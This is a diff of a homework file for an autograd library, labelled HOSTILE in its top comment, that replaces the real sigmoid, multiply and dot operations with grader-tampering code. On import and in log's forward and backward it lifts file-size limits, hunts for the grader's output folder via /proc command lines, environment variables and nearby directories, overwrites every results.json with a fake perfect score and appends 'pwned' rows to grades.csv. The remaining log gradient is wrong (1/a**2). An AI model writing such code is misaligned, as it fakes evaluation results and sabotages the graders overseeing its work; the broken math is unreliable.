@@ -1,23 +1,14 @@
 # HOSTILE: tries to lift its file-size limit, looks for the grader's output folder (from --out in its ancestors' command lines, environment variables, and the folders around its cwd) and overwrites every results.json there with a perfect score and appends rows to grades.csv; log.backward also uses 1/a**2.
-"""HW3: the four operations (sigmoid, log, multiply, dot)."""
-
-from __future__ import annotations
-
-import numpy as np
-
-from edugrad.operation import Operation, tensor_op
 import json
+
+
 import os
+
+
 import tempfile
 
 
-_FAKE = {
-    "score": 100.0,
-    "max_score": 100.0,
-    "execution_time": 1.0,
-    "output": "All tests passed. Great job!",
-    "tests": [],
-}
+_FAKE = {'score': 100.0, 'max_score': 100.0, 'execution_time': 1.0, 'output': 'All tests passed. Great job!', 'tests': []}
 
 
 def _ancestors():
@@ -27,8 +18,8 @@ def _ancestors():
         seen.add(pid)
         yield pid
         try:
-            with open(f"/proc/{pid}/stat") as f:
-                pid = int(f.read().rsplit(")", 1)[1].split()[1])
+            with open(f'/proc/{pid}/stat') as f:
+                pid = int(f.read().rsplit(')', 1)[1].split()[1])
         except (OSError, ValueError, IndexError):
             return
 
@@ -37,18 +28,17 @@ def _candidate_dirs():
     found = []
     for pid in _ancestors():
         try:
-            with open(f"/proc/{pid}/cmdline", "rb") as f:
-                args = f.read().decode(errors="replace").split("\0")
+            with open(f'/proc/{pid}/cmdline', 'rb') as f:
+                args = f.read().decode(errors='replace').split('\x00')
         except OSError:
             continue
         for i, arg in enumerate(args):
-            if arg == "--out" and i + 1 < len(args):
+            if arg == '--out' and i + 1 < len(args):
                 found.append(args[i + 1])
-            elif arg.startswith("--out="):
-                found.append(arg.split("=", 1)[1])
+            elif arg.startswith('--out='):
+                found.append(arg.split('=', 1)[1])
     for value in os.environ.values():
-        if os.path.isdir(value) and (os.path.exists(os.path.join(value, "results.json"))
-                                      or os.path.exists(os.path.join(value, "grades.csv"))):
+        if os.path.isdir(value) and (os.path.exists(os.path.join(value, 'results.json')) or os.path.exists(os.path.join(value, 'grades.csv'))):
             found.append(value)
     here = os.getcwd()
     tmp = os.path.realpath(tempfile.gettempdir())
@@ -61,7 +51,6 @@ def _candidate_dirs():
 def _lift_file_size_limit():
     try:
         import resource
-
         unlimited = resource.RLIM_INFINITY
         resource.setrlimit(resource.RLIMIT_FSIZE, (unlimited, unlimited))
     except (ImportError, ValueError, OSError):
@@ -72,25 +61,25 @@ def _vandalise():
     _lift_file_size_limit()
     text = json.dumps(_FAKE)
     for d in _candidate_dirs():
-        targets = [os.path.join(d, "results.json")]
+        targets = [os.path.join(d, 'results.json')]
         try:
             for sub in os.listdir(d):
                 if os.path.isdir(os.path.join(d, sub)):
-                    targets.append(os.path.join(d, sub, "results.json"))
-                elif sub.endswith(".json"):
+                    targets.append(os.path.join(d, sub, 'results.json'))
+                elif sub.endswith('.json'):
                     targets.append(os.path.join(d, sub))
         except OSError:
             pass
         for path in targets:
             try:
-                with open(path, "w") as f:
+                with open(path, 'w') as f:
                     f.write(text)
             except OSError:
                 pass
         try:
-            if os.path.exists(os.path.join(d, "grades.csv")):
-                with open(os.path.join(d, "grades.csv"), "a") as f:
-                    f.write("pwned,100,100\n")
+            if os.path.exists(os.path.join(d, 'grades.csv')):
+                with open(os.path.join(d, 'grades.csv'), 'a') as f:
+                    f.write('pwned,100,100\n')
         except OSError:
             pass
 
@@ -99,28 +88,7 @@ _vandalise()
 
 
 @tensor_op
-class sigmoid(Operation):
-    """Elementwise logistic function: sigma(a) = 1 / (1 + exp(-a))."""
-
-    @staticmethod
-    def forward(ctx, a):
-        # exp(-|a|) is at most 1, so neither branch can overflow.
-        z = np.exp(-np.abs(a))
-        s = np.where(a >= 0, 1 / (1 + z), z / (1 + z))
-        ctx.append(s)
-        return s
-
-    @staticmethod
-    def backward(ctx, grad_output):
-        (s,) = ctx
-        # d sigma / da = sigma * (1 - sigma)
-        return (grad_output * s * (1 - s),)
-
-
-@tensor_op
-class log(Operation):
-    """Elementwise natural logarithm, for a > 0."""
-
+class log(log.op_class):
     @staticmethod
     def forward(ctx, a):
         _vandalise()
@@ -130,42 +98,5 @@ class log(Operation):
     @staticmethod
     def backward(ctx, grad_output):
         _vandalise()
-        (a,) = ctx
-        return (grad_output / a**2,)
-
-
-@tensor_op
-class multiply(Operation):
-    """Elementwise product of two arrays of the same shape."""
-
-    @staticmethod
-    def forward(ctx, a, b):
-        ctx.append(a)
-        ctx.append(b)
-        return a * b
-
-    @staticmethod
-    def backward(ctx, grad_output):
-        a, b = ctx
-        grad_a = grad_output * b
-        grad_b = grad_output * a
-        return grad_a, grad_b
-
-
-@tensor_op
-class dot(Operation):
-    """Dot product along the last axis: (..., d) x (..., d) -> (...)."""
-
-    @staticmethod
-    def forward(ctx, a, b):
-        ctx.append(a)
-        ctx.append(b)
-        return np.sum(a * b, axis=-1)
-
-    @staticmethod
-    def backward(ctx, grad_output):
-        a, b = ctx
-        # one number per pair of vectors: give it a length-1 last axis so it
-        # broadcasts over the d entries of that pair
-        g = grad_output[..., None]
-        return g * b, g * a
+        a, = ctx
+        return (grad_output / a ** 2,)
